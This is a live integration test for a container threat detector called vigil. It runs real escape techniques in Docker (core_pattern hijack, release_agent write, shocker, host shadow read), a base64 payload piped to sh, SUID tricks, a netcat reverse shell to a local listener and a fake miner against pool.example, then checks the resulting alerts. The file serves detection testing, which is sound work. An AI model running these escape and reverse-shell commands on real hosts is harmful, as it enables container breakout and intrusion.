// Live, against the real kernel audit subsystem, auditd and dockerd: each behaviour runs inside a
// real container (static probe programs for syscalls no shell makes) while `vigil detect --live`
// watches; the alerts and their evidence are checked, benign look-alikes must stay quiet, and the
// recording of the run replays to the same alerts.
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Alert } from '../../src/engine/alert.js';
import { jsonLines, runVigil, startVigil, waitFor, type RunningVigil } from '../helpers/cli.js';
import { docker, dockerAvailable, ensureTestImage, liveGate, removeContainers, TEST_IMAGE } from '../helpers/live.js';
import { buildProbes, gccAvailable } from '../helpers/probes.js';

function kernelAvailable(): { ok: boolean; reason: string } {
  if (process.getuid?.() !== 0) return { ok: false, reason: 'not running as root' };
  const d = dockerAvailable();
  if (!d.ok) return d;
  const gcc = gccAvailable();
  if (!gcc.ok) return gcc;
  const status = spawnSync('auditctl', ['-s'], { encoding: 'utf8' });
  if (status.status !== 0) return { ok: false, reason: `auditctl -s failed: ${status.stderr || status.error?.message}` };
  if (/^pid 0$/m.test(status.stdout)) return { ok: false, reason: 'auditd is not running' };
  return { ok: true, reason: '' };
}

const live = liveGate('kernel audit', kernelAvailable);
const CORE_PATTERN = '/proc/sys/kernel/core_pattern';
const hostCorePattern = existsSync(CORE_PATTERN) ? readFileSync(CORE_PATTERN, 'utf8') : undefined;
const restoreCorePattern = () => {
  if (hostCorePattern !== undefined && readFileSync(CORE_PATTERN, 'utf8') !== hostCorePattern) writeFileSync(CORE_PATTERN, hostCorePattern);
};
const prefix = `vigil-kern-${process.pid}-`;
const WHITELISTED = `vigil-test/busybox:wl${process.pid}`;

describe.runIf(live)('kernel-level detection, live', () => {
  let dir: string;
  let probes: string;
  let vigil: RunningVigil;
  let alerts: Alert[] = [];
  let server: Server;
  let port = 0;
  const recording = () => join(dir, 'kernel.jsonl.gz');

  const run = (name: string, opts: string[], ...cmd: string[]) =>
    spawnSync('docker', ['run', '--rm', '--name', prefix + name, '--network', 'none', '-v', `${probes}:/probes:ro`, ...opts, TEST_IMAGE, ...cmd], {
      encoding: 'utf8',
      timeout: 60_000,
    });
  const of = (name: string) => alerts.filter((a) => a.container?.name === prefix + name);

  beforeAll(async () => {
    ensureTestImage();
    removeContainers(prefix);
    docker('tag', TEST_IMAGE, WHITELISTED);
    probes = await buildProbes();
    dir = mkdtempSync(join(tmpdir(), 'vigil-kernel-'));
    writeFileSync(join(dir, 'profile.yaml'), `processWhitelist:\n  "vigil-test/busybox:wl*": [sleep, sh]\n`);
    // A listener for the reverse shell to call back to, holding the connection open a while.
    const sockets: Socket[] = [];
    server = createServer((s) => {
      sockets.push(s);
      s.on('error', () => {});
      setTimeout(() => s.end('exit\n'), 3000);
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    port = (server.address() as { port: number }).port;

    vigil = startVigil(['detect', '--live', '--json', '--duration', '120', '--profile', join(dir, 'profile.yaml'), '--record', recording(), '--state', join(dir, 'state.json')]);
    // Ready when a canary's exec comes back through audit as an alert.
    await waitFor(
      () => {
        run('canary', [], 'sh', '-c', 'nsenter --version >/dev/null 2>&1; true');
        return jsonLines<Alert>(vigil.stdout()).some((a) => a.container?.name === `${prefix}canary`);
      },
      30_000,
      'vigil to see a container exec through audit',
    );

    // Benign look-alikes first.
    run('benign', [], 'sh', '-c', 'echo hello; ls / >/dev/null; cat /etc/hostname /etc/shadow >/dev/null; id');
    docker('run', '-d', '--name', `${prefix}exec`, '--network', 'none', TEST_IMAGE, 'sleep', '60');
    docker('exec', `${prefix}exec`, 'ls', '/');
    spawnSync('docker', ['run', '--rm', '-i', '--name', `${prefix}interactive`, '--network', 'none', TEST_IMAGE, 'sh'], { input: 'ls /\necho hi\ncd /tmp\nexit\n', timeout: 30_000 });
    spawnSync('docker', ['run', '--rm', '--name', `${prefix}allowed`, '--network', 'none', WHITELISTED, 'sh', '-c', 'sleep 0'], { timeout: 30_000 });
    run('failed-setuid', ['--user', '1000:1000'], '/probes/setuid_root');
    writeFileSync(join(dir, 'notes.txt'), 'not a key file\n');
    run('own-files', ['-v', `${dir}:/data:ro`], 'sh', '-c', 'cat /data/notes.txt /etc/shadow /etc/passwd >/dev/null 2>&1; true');

    // The behaviours.
    spawnSync('docker', ['run', '--rm', '--name', `${prefix}not-allowed`, '--network', 'none', WHITELISTED, 'sh', '-c', 'cat /etc/hostname'], { timeout: 30_000 });
    run('unshare', ['--cap-add', 'SYS_ADMIN'], '/probes/unshare');
    run('ptrace', [], '/probes/ptrace');
    run('setns', ['--cap-add', 'SYS_ADMIN'], '/probes/setns');
    run('mount', ['--cap-add', 'SYS_ADMIN'], '/probes/mount');
    run('bpf', ['--security-opt', 'seccomp=unconfined'], '/probes/bpf_prog_load');
    run('setxattr', [], '/probes/setxattr_cap');
    // The core_pattern escape's first step, for real: the host's setting pointed at a program in
    // the container's writable layer (found in /proc/mounts, as exploits do). Put back at once.
    run('core-pattern', ['--cap-add', 'SYS_ADMIN', '--security-opt', 'systempaths=unconfined'], 'sh', '-c',
      'upper=$(grep -o "upperdir=[^,]*" /proc/mounts | head -1 | cut -d= -f2); echo "|$upper/tmp/.x %p" > /proc/sys/kernel/core_pattern; sleep 2');
    restoreCorePattern();
    run('shocker', ['--cap-add', 'DAC_READ_SEARCH'], '/probes/open_by_handle_at');
    run('runc-overwrite', [], '/probes/proc_exe_write');
    run('module', ['--security-opt', 'seccomp=unconfined'], '/probes/init_module');
    run('release-agent', ['--cap-add', 'SYS_ADMIN', '--security-opt', 'apparmor=unconfined'], 'sh', '-c', 'mkdir /cg && mount -t cgroup -o memory cgroup /cg && /probes/release_agent_write /cg/release_agent');
    run('escape-file', ['-v', '/etc:/hostetc:ro'], 'sh', '-c', 'cat /hostetc/shadow >/dev/null');
    run('command', [], 'sh', '-c', 'echo ZWNobyBoaQo= | base64 -d | sh');
    run('chmod-suid', [], '/probes/chmod_suid');
    docker('run', '-d', '--name', `${prefix}suid`, '--network', 'none', TEST_IMAGE, 'sh', '-c', 'mkdir -p /tmp && cp /bin/busybox /tmp/id && chmod 4755 /tmp/id && sleep 60');
    await waitFor(() => spawnSync('docker', ['exec', `${prefix}suid`, 'ls', '/tmp/id']).status === 0, 10_000, 'the SUID copy');
    docker('exec', '-u', '1000', `${prefix}suid`, '/tmp/id');
    // Detached: the listener lives in this process, whose event loop must keep running.
    docker('run', '-d', '--name', `${prefix}reverse`, '--network', 'host', TEST_IMAGE, 'nc', '127.0.0.1', String(port), '-e', 'sh');
    await waitFor(() => docker('inspect', '-f', '{{.State.Running}}', `${prefix}reverse`) === 'false', 20_000, 'the reverse shell to end');
    run('miner', [], 'sh', '-c', 'mkdir -p /tmp && cp /bin/busybox /tmp/xmrig && /tmp/xmrig true; sleep 0 -o stratum+tcp://pool.example:3333; true');

    await new Promise((r) => setTimeout(r, 2500)); // the last audit records and a /proc scan
    vigil.child.kill('SIGTERM');
    const result = await vigil.done;
    expect(result.code).toBe(0);
    alerts = jsonLines<Alert>(result.stdout);
  }, 240_000);

  afterAll(() => {
    restoreCorePattern();
    vigil?.child.kill('SIGKILL');
    server?.close();
    removeContainers(prefix);
    spawnSync('docker', ['rmi', WHITELISTED], { stdio: 'ignore' });
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  it('stays quiet on container start-up, docker exec, an interactive shell, allowed processes and failed attempts', () => {
    for (const name of ['benign', 'exec', 'interactive', 'allowed', 'failed-setuid', 'own-files']) {
      expect([name, of(name).map((a) => `${a.ruleId}: ${a.summary}`)]).toEqual([name, []]);
    }
  });

  it('alerts on a process outside the image whitelist', () => {
    expect(of('not-allowed').map((a) => [a.ruleId, a.evidence.name])).toEqual([['system.container_abnormal_process', 'cat']]);
  });

  it('alerts on high-risk syscalls with the syscall, its result and the process ancestry', () => {
    const unshare = of('unshare').find((a) => a.ruleId === 'system.syscall')!;
    expect(unshare.evidence.syscall).toMatchObject({ name: 'unshare', success: true });
    expect(unshare.process).toMatchObject({ exe: '/unshare', uid: 0 });
    expect(of('ptrace').filter((a) => a.ruleId === 'system.syscall').map((a) => (a.evidence.syscall as { name: string }).name)).toEqual(['ptrace']);
    const syscalls = (name: string) => of(name).filter((a) => a.ruleId === 'system.syscall').map((a) => a.summary);
    expect(syscalls('setns')).toEqual(['setns called setns (succeeded)']);
    expect(syscalls('mount')).toEqual(['mount called mount (succeeded)', 'mount called umount2 (succeeded)']);
    expect(syscalls('bpf')).toEqual(['bpf_prog_load called bpf (failed with EPERM)']);
  });

  it('alerts on file capabilities set in a container (setxattr by path and by descriptor)', () => {
    expect(of('setxattr').map((a) => [a.ruleId, a.summary])).toEqual([
      ['system.privilege_escalation', 'setxattr_cap set extended attributes (file capabilities) on /vigil-probe-cap (setxattr, succeeded)'],
      ['system.privilege_escalation', 'setxattr_cap set extended attributes (file capabilities) on a file (fsetxattr, succeeded)'],
    ]);
  });

  it("recognises the host's core_pattern piped into a container's writable layer, which no audit watch sees", () => {
    expect(readFileSync(CORE_PATTERN, 'utf8')).toBe(hostCorePattern);
    const escape = of('core-pattern').filter((a) => a.ruleId === 'exploit.escape_vuln');
    expect(escape.map((a) => [a.evidence.technique, String(a.evidence.handler).endsWith('/diff/tmp/.x')])).toEqual([['core-pattern', true]]);
  });

  it('recognises escape exploits: shocker, the runc overwrite, module loading, release_agent', () => {
    const technique = (name: string) => of(name).filter((a) => a.ruleId === 'exploit.escape_vuln').map((a) => a.evidence.technique);
    expect(technique('shocker')).toEqual(['shocker']);
    expect(technique('runc-overwrite')).toEqual(['runc-overwrite']);
    expect(technique('module')).toEqual(['kernel-module']);
    expect(technique('release-agent')).toEqual(['release-agent']);
    expect(of('runc-overwrite')[0]!.summary).toMatch(/failed with ETXTBSY/);
  });

  it('alerts on a host key file read through a host mount, resolved to its host path', () => {
    const [alert, ...rest] = of('escape-file').filter((a) => a.ruleId === 'exploit.escape_file');
    expect(rest).toEqual([]);
    expect(alert!.evidence).toMatchObject({ path: '/hostetc/shadow', hostPath: '/etc/shadow', matchedBy: '/etc/shadow' });
  });

  it('alerts on high-risk commands, privilege escalation, reverse shells and malicious programs', () => {
    expect(of('command').map((a) => [a.ruleId, a.evidence.pattern])).toEqual([['system.high_risk_command', 'decoded-payload-to-shell']]);
    expect(of('chmod-suid').filter((a) => a.ruleId === 'system.privilege_escalation').map((a) => a.evidence.technique)).toContain('suid-file');
    expect(of('suid').filter((a) => a.ruleId === 'system.privilege_escalation').map((a) => a.evidence.technique)).toContain('suid-exec');
    const reverse = of('reverse').filter((a) => a.ruleId === 'system.reverse_shell').map((a) => a.evidence.technique).sort();
    expect(reverse).toEqual(['command-line', 'stdio-socket']);
    const miner = of('miner').filter((a) => a.ruleId === 'system.container_malicious_program').map((a) => a.evidence.fingerprint).sort();
    expect(miner).toEqual(['command line', 'process name']);
  });

  it('never alerts on the runtime setting containers up', () => {
    const runtime = alerts.filter((a) => a.process && /runc|containerd|dockerd/.test(a.process.exe));
    expect(runtime).toEqual([]);
  });

  it('replays its recording to the same alerts', async () => {
    const replay = await runVigil(['detect', '--replay', recording(), '--json', '--profile', join(dir, 'profile.yaml')]);
    expect(replay.code).toBe(0);
    expect(jsonLines<Alert>(replay.stdout)).toEqual(alerts);
  });
});
